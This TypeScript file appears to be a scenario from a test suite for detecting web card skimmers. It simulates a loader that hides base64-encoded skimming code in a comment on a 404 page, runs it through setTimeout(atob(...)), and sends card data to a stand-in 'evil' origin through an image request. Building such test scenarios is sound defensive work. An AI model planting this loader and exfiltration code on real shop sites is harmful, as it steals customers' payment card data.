import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'not-found-loader',
  why: "The code lies in a comment of the shop's own page for missing addresses; the loader asks for an address that is missing (published 2023).",
  covers: ['injection: 404 page', 'obfuscation: eval'],
  base: 'direct',
  install: (site) => {
    const code = onPay(
      js`new Image().src = '${site.origins.evil}/nf.gif?d=' + encodeURIComponent(btoa(card()));`,
    );
    site.serve('shop/icons/next', {
      status: 404,
      body: `<!doctype html><title>ページが見つかりません</title><p>お探しのページは見つかりませんでした。<!--cookie:${Buffer.from(code).toString('base64')}-->`,
    });
    site.inline(
      js`fetch('/icons/next').then(function (r) { return r.text(); }).then(function (t) { setTimeout(atob(/cookie:([^-]+)/.exec(t)[1]), 0); });`,
    );
  },
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
